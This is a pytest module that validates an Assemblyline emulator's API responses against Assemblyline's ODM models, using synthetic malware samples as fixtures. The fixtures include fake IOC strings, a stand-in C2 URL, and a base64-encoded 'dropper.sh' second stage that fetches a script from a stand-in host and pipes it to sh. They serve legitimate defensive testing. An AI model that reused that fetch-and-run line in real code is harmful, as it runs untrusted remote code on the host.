"""What the Assemblyline emulator returns validates against the current release's ODM models.

The models come from the pinned ``assemblyline`` package (tests/requirements-odm.txt; installed by
``make`` on Python 3.11 only). Where it is absent (Python 3.8, st2-run-pack-tests) this module skips.

Every record is driven through the emulator's HTTP API with the official client and then:

* built with the model and ``ignore_extra_values=False``, so a field the model does not have is an
  error (the real server would never send it);
* compared with the model's own serialisation, so a field the datastore always holds (including
  optional ones, which it stores as null) must be present, and a value the model would normalise
  (case, dates, tag values) must already be in normal form.

The UI reshapes results before answering (section tags become a flat list and safelisted tags are
folded into it); :func:`stored_result` undoes exactly that before validating a ``Result``.
"""
import copy
import hashlib
import io
import json
import os
import sys
import zipfile

import pytest

PACK_LIB = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "actions", "lib")


def _import_assemblyline_models():
    """``pytest.importorskip`` the models, past the pack's own ``actions/lib/assemblyline.py``.

    st2-run-pack-tests (and tests/conftest.py) put ``actions/lib`` on ``sys.path``, where the pack's
    module of that name would hide the package. The pack imports its module as
    ``lib.assemblyline``, so the package may own the top-level name.
    """
    shadow = sys.modules.get("assemblyline")
    if shadow is not None and not hasattr(shadow, "__path__"):
        del sys.modules["assemblyline"]
    saved = list(sys.path)
    sys.path[:] = [p for p in sys.path if os.path.abspath(p or os.curdir) != PACK_LIB]
    try:
        return pytest.importorskip("assemblyline.odm.models.submission")
    finally:
        sys.path[:] = saved


_import_assemblyline_models()

from assemblyline import odm  # noqa: E402
from assemblyline.common import forge  # noqa: E402
from assemblyline.common.dict_utils import flatten  # noqa: E402
from assemblyline.odm.messages.submission import Submission as MessageSubmission  # noqa: E402
from assemblyline.odm.models.alert import EXTENDED_SCAN_VALUES  # noqa: E402
from assemblyline.odm.models.error import Error  # noqa: E402
from assemblyline.odm.models.file import File  # noqa: E402
from assemblyline.odm.models.result import Result, Section  # noqa: E402
from assemblyline.odm.models.submission import Submission  # noqa: E402
from assemblyline.odm.models.tagging import Tagging  # noqa: E402
from assemblyline_client import get_client  # noqa: E402

from tests.helpers import AL_APIKEY, AL_USER  # noqa: E402

NQ = "st2_odm"
JSON_BODY_FORMATS = {"GRAPH_DATA", "URL", "JSON", "KEY_VALUE", "PROCESS_TREE", "TABLE", "IMAGE", "MULTI",
                     "ORDERED_KEY_VALUE", "TIMELINE"}
H_TYPES = {"info", "safe", "suspicious", "malicious"}
TAG_FIELDS = Tagging.flat_fields()
CLASSIFICATION = forge.get_classification()


@odm.model(description="A notification queue message (the ingester's IngestTask)")
class NotificationMessage(odm.Model):
    """The notification payload. Its model is not in the ``assemblyline`` package: the ingester
    defines it (assemblyline-rust ``ingester/mod.rs`` for 4.7, assemblyline-core before). The
    fields and types are that struct's, declared here with the package's field types; the
    ingester serialises every one of them, which :func:`validate` checks."""
    submission = odm.Compound(MessageSubmission)
    retries = odm.Integer()
    failure = odm.Text(default="")  # "" = no failure (an ODM Text without a default refuses "")
    score = odm.Optional(odm.Integer())
    extended_scan = odm.Enum(values=EXTENDED_SCAN_VALUES)
    ingest_id = odm.UUID()
    ingest_time = odm.Date()
    notify_time = odm.Optional(odm.Date())


# ------------------------------------------------------------------------------ checking
def differences(expected, given, path=""):
    """Where ``given`` lacks or differs from the model's serialisation ``expected``."""
    if isinstance(expected, dict) and isinstance(given, dict):
        out = []
        for key in expected:
            where = "%s.%s" % (path, key) if path else key
            out += ["missing " + where] if key not in given else differences(expected[key], given[key], where)
        return out
    if isinstance(expected, list) and isinstance(given, list) and len(expected) == len(given):
        return [d for i, (a, b) in enumerate(zip(expected, given)) for d in differences(a, b, "%s[%d]" % (path, i))]
    return [] if expected == given else ["%s: %r, the model has %r" % (path, given, expected)]


def validate(model, data, label):
    """``data`` builds ``model`` with no unknown field, and is what the model serialises."""
    assert isinstance(data, dict), "%s is not an object: %r" % (label, data)
    try:
        obj = model(copy.deepcopy(data), ignore_extra_values=False)
    except (ValueError, TypeError, KeyError) as err:
        pytest.fail("%s rejected by %s: %s" % (label, model.__name__, err))
    problems = differences(obj.as_primitives(), data)
    assert not problems, "%s vs %s: %s" % (label, model.__name__, problems)
    return obj


def is_tag_type(tag_type):
    """A Tagging field, or a key under one of its mappings (``file.rule.<source>``)."""
    parent = tag_type.rsplit(".", 1)[0]
    return tag_type in TAG_FIELDS or isinstance(TAG_FIELDS.get(parent), odm.Mapping)


def check_tag(tag_type, values):
    """The tag type exists and the values are valid for it, already as the model stores them."""
    try:
        tagging = Tagging({tag_type: values}, ignore_extra_values=False)
    except (ValueError, TypeError) as err:
        pytest.fail("tag %s %r rejected by Tagging: %s" % (tag_type, values, err))
    assert flatten(tagging.as_primitives(strip_null=True)) == {tag_type: values}, (tag_type, values)


def stored_section(section):
    """A section as the UI answered it -> as the ``Result`` stores it."""
    section = copy.deepcopy(section)
    assert isinstance(section["tags"], list), "the UI answers section tags as a list"
    tags, safelisted = {}, {}
    for tag in section["tags"]:
        assert set(tag) == {"type", "value", "short_type", "safelisted"}, tag
        assert tag["short_type"] == tag["type"].rsplit(".", 1)[-1], tag
        assert is_tag_type(tag["type"]), "not an Assemblyline tag type: %r" % tag["type"]
        (safelisted if tag["safelisted"] else tags).setdefault(tag["type"], []).append(tag["value"])
    for tag_type, values in tags.items():
        check_tag(tag_type, values)
    section["tags"] = Tagging(tags).as_primitives()
    section["safelisted_tags"] = safelisted
    if section["body_format"] in JSON_BODY_FORMATS and not isinstance(section["body"], str):
        section["body"] = json.dumps(section["body"])
    return section


def stored_result(result):
    result = copy.deepcopy(result)
    result["result"]["sections"] = [stored_section(s) for s in result["result"]["sections"]]
    return result


def check_result(key, result):
    obj = validate(Result, stored_result(result), "result %s" % key)
    assert key == obj.build_key(), "result key %s is not the model's %s" % (key, obj.build_key())
    return obj


def check_error(key, error):
    obj = validate(Error, error, "error %s" % key)
    assert key == obj.build_key(), "error key %s is not the model's %s" % (key, obj.build_key())


def check_record(record, label="submission"):
    sub = validate(Submission, record, label)
    assert sub.error_count == len(sub.errors) and sub.file_count >= len(sub.files) >= 1
    assert CLASSIFICATION.is_valid(sub.classification)
    return sub


def check_message(message):
    obj = validate(NotificationMessage, message, "notification message")
    assert obj.submission.notification.queue == NQ
    return obj


def check_full(full, record=None):
    """/full/ = the record, files, results and errors; ``record`` (from /submission/) must list
    exactly the result and error keys /full/ holds."""
    extra = ("file_tree", "file_infos", "results", "errors", "missing_error_keys", "missing_file_keys",
             "missing_result_keys")
    # /full/ is the record with its result and error key lists replaced by the records themselves
    record = dict({k: v for k, v in full.items() if k not in extra},
                  results=list(full["results"]), errors=list(full["errors"]))
    sub = check_record(record, "full record")
    for sha256, info in full["file_infos"].items():
        assert validate(File, info, "file info %s" % sha256).sha256 == sha256
    for key, result in full["results"].items():
        check_result(key, result)
        assert key[:64] in full["file_infos"]
    for key, error in full["errors"].items():
        check_error(key, error)
    if record is not None:
        assert sorted(full["results"]) == sorted(record["results"])
        assert sorted(full["errors"]) == sorted(record["errors"])
    for sha256, node in walk_tree(full["file_tree"]):
        assert sha256 in full["file_infos"]
        assert (node["size"], node["type"]) == (full["file_infos"][sha256]["size"], full["file_infos"][sha256]["type"])


def walk_tree(tree):
    for sha256, node in tree.items():
        yield sha256, node
        for item in walk_tree(node["children"]):
            yield item


def check_summary(summary):
    assert CLASSIFICATION.is_valid(summary["classification"])
    for group, by_type in summary["tags"].items():
        for tag_type, tuples in by_type.items():
            assert is_tag_type(tag_type), tag_type
            for value, h_type, safelisted, classification in tuples:
                assert h_type in H_TYPES and isinstance(safelisted, bool), (tag_type, value)
                assert CLASSIFICATION.is_valid(classification)
                check_tag(tag_type, [value])
    for heur_id, sections in summary["heuristic_sections"].items():
        for section in sections:
            stored = validate(Section, stored_section(section), "summary section of %s" % heur_id)
            assert stored.heuristic.heur_id == heur_id
    for h_type, heuristics in summary["heuristics"].items():
        assert h_type in H_TYPES and all(len(h) == 2 for h in heuristics)


def check_file_result(client, sha256):
    data = client.file.result(sha256)
    assert validate(File, data["file_info"], "file_info of /file/result/").sha256 == sha256
    for result in data["results"]:
        assert validate(Result, stored_result(result), "result of /file/result/").sha256 == sha256
        assert result["result"]["sections"] or result["response"]["extracted"], "an empty result is listed"
    for error in data["errors"]:
        validate(Error, error, "error of /file/result/")
    for tag_type, tuples in data["tags"].items():
        assert is_tag_type(tag_type), tag_type
        for value, h_type, safelisted, classification in tuples:
            assert h_type in H_TYPES and isinstance(safelisted, bool)
            check_tag(tag_type, [value])


# ------------------------------------------------------------------------------ fixtures
@pytest.fixture(autouse=True)
def clean(emulator):
    emulator.reset(knobs=True)
    yield
    emulator.reset(knobs=True)


@pytest.fixture
def client(emulator):
    return get_client(emulator.url, apikey=(AL_USER, AL_APIKEY), retries=2, timeout=10)


def ingest(client, content, fname="sample.txt", **kw):
    kw.setdefault("submission_profile", "static")
    return client.ingest(content=content, fname=fname, nq=NQ, **kw)["ingest_id"]


def sample_zip():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("dir/evil.txt", b"connect to http://malware.example.net/x FAMILY=QAKBOT\n")
        archive.writestr("crash.bin", b"\x00\x01\x02 AL-EMU:ERROR")
        archive.writestr("dropper.sh", b"#!/bin/sh\nEXTRACT:stage2.sh:IyEvYmluL3NoCmN1cmwgLXMgaHR0cDovL2JhZC1z"
                                       b"dGFnZTIuY29tL3MyIHwgc2gK\nBEHAVIOR=Downloads a second stage\n")
    return buf.getvalue()


SAMPLES = {
    "iocs": (b"beacon=http://evil-c2.com/gate.php?id=1#frag\nfallback http://cdn.example.com/update.bin\n"
             b"dns: malware-drop.ru mail admin@phish.net see https://www.microsoft.com/en-us/download\n"
             b"ping 8.8.8.8 and 192.168.1.20 v6 2001:db8::42 FAMILY=EMOTET SCORE=-100\n"),
    "clean": b"Quarterly report draft. Nothing to see here.\n",
    "binary": b"MZ\x90\x00\x03" + bytes(range(256)) * 4,
    "zip": sample_zip(),
}


# ------------------------------------------------------------------------------ tests
@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_records_of_a_completed_submission(emulator, client, name):
    sid = ingest(client, SAMPLES[name], fname=name + ".bin", ingest_type="STACKSTORM",
                 params={"priority": 400, "deep_scan": False, "services": {"excluded": ["Dynamic Analysis"]}},
                 metadata={"st2_exec": "e1", "n": 5, "nested": {"flag": True}})

    running = check_record(client.submission(sid), "running submission")
    assert running.state == "submitted" and running.times.completed is None
    check_summary(client.submission.summary(sid))
    check_full(client.submission.full(sid))

    assert emulator.complete_all() == 1
    (message,) = client.ingest.get_message_list(NQ)
    msg = check_message(message)
    assert (msg.ingest_id, msg.submission.sid, msg.failure) == (sid, sid, "")

    raw_record = client.submission(sid)
    record = check_record(raw_record)
    assert record.state == "completed" and record.max_score == msg.score
    assert record.params.submitter == AL_USER and record.metadata["st2_exec"] == "e1"
    full = client.submission.full(sid)
    check_full(full, raw_record)
    summary = client.submission.summary(sid)
    assert summary["partial"] is False
    check_summary(summary)
    for sha256 in full["file_infos"]:
        check_file_result(client, sha256)


def test_every_notification_case(emulator, client):
    """Completed, cache hit, in-flight duplicate, copied cache hit, dropped and too large."""
    first = ingest(client, b"http://evil.com again")
    duplicate = ingest(client, b"http://evil.com again", metadata={"n": 2})
    emulator.complete_all()
    cached = ingest(client, b"http://evil.com again", metadata={"n": 3})
    emulator.set(always_create_submission=True)
    copied = ingest(client, b"http://evil.com again")
    ingest(client, b"AL-EMU:SKIP")
    emulator.set(max_scan_size=10)
    ingest(client, b"x" * 11)
    emulator.set(max_scan_size=104857600)
    threshold = ingest(client, b"http://evil.com but threshold", params={"ignore_cache": True})
    messages = client.ingest.get_message_list(NQ)
    checked = [check_message(m) for m in messages]
    assert [(m.ingest_id, m.submission.sid) for m in checked][:4] == [
        (first, first), (duplicate, first), (cached, first), (copied, copied)]
    assert [m.failure for m in checked[4:]] == ["Skipped", "File too large (11 > 10)"]
    assert all(m.score is None for m in checked[4:])
    copy_record = check_record(client.submission(copied), "copied submission")
    assert copy_record.params.psid == first
    check_full(client.submission.full(copied))
    assert check_record(client.submission(threshold)).state == "submitted"


def test_hash_and_url_ingests(emulator, client):
    content = b"known file http://evil.example.org/a\n"
    sha256 = emulator.add_file(content)
    by_hash = client.ingest(sha256=sha256, nq=NQ, submission_profile="static")["ingest_id"]
    by_url = client.ingest(url="https://user:pw@evil.example.org:8443/p;x?q=1#f", nq=NQ,
                           submission_profile="static")["ingest_id"]
    emulator.complete_all()
    for message in client.ingest.get_message_list(NQ):
        check_message(message)
    for sid in (by_hash, by_url):
        check_record(client.submission(sid))
        check_full(client.submission.full(sid))
        check_summary(client.submission.summary(sid))
    full = client.submission.full(by_url)
    (info,) = full["file_infos"].values()
    uri = validate(File, info, "URI file").uri_info
    assert info["type"] == "uri/https"
    assert (uri.hostname, uri.port, uri.username, uri.path, uri.params, uri.query) == (
        "evil.example.org", 8443, "user", "/p", "x", "q=1")
    assert validate(File, client.file.result(hashlib.sha256(content).hexdigest())["file_info"],
                    "hash-ingested file").uri_info is None


def test_unknown_params_are_dropped_like_the_model_does(client):
    sid = ingest(client, b"params", params={"not_a_param": 1, "services": {"runtime_excluded": ["x"]},
                                            "deep_scan": True})
    record = client.submission(sid)
    check_record(record)
    assert "not_a_param" not in record["params"] and "runtime_excluded" not in record["params"]["services"]
    assert record["params"]["deep_scan"] is True


def test_emulator_constants_are_the_release_defaults():
    """The server settings the emulator hard-codes are the release's configuration defaults."""
    from assemblyline.common.constants import notification_queue_name
    from assemblyline.odm.models.submission import SubmissionParams

    from tests.emulators import al_ingest, al_results
    from tests.emulators.al_analysis import SUMMARY_TAG_TYPES, h_type_for_score, verdict_for_score
    from tests.emulators.al_common import queue_key
    from tests.emulators.al_state import KNOB_DEFAULTS

    config = forge.get_config()
    assert {k: set(v) for k, v in SUMMARY_TAG_TYPES.items()} == \
        {k: set(v) for k, v in config.submission.tag_types.as_primitives().items()}
    assert al_ingest.SUBMISSION_PROFILES == {
        p.name: (p.display_name, p.params.services.selected) for p in config.submission.profiles}
    assert sorted(al_ingest.default_params(AL_USER)) == sorted(SubmissionParams.fields())
    assert sorted(al_ingest.default_params(AL_USER)["services"]) == \
        sorted(SubmissionParams.fields()["services"].child_type.fields())
    assert al_ingest.default_params(AL_USER)["ttl"] == config.submission.dtl
    assert al_ingest.MAX_EXTRACTED == config.core.ingester.default_max_extracted \
        == config.core.ingester.default_max_supplementary
    assert al_ingest.INGEST_MAX_PRIORITY == config.ui.ingest_max_priority
    assert KNOB_DEFAULTS["max_file_size"] == KNOB_DEFAULTS["max_scan_size"] == config.submission.max_file_size
    assert KNOB_DEFAULTS["cache_window"] == config.core.ingester.cache_dtl * 86400
    assert al_results.EMPTY_RESULT_DTL_DAYS == config.submission.emptyresult_dtl
    verdicts = config.submission.verdicts
    for score, level in ((verdicts.malicious, "malicious"), (verdicts.suspicious, "suspicious"),
                         (verdicts.info, "info"), (verdicts.info - 1, "safe")):
        assert h_type_for_score(score) == level
    assert verdict_for_score(verdicts.highly_suspicious) == "highly_suspicious"
    assert queue_key("st2", "st2_tc") == notification_queue_name("st2", "st2_tc") == "nq-737432-st2_tc"
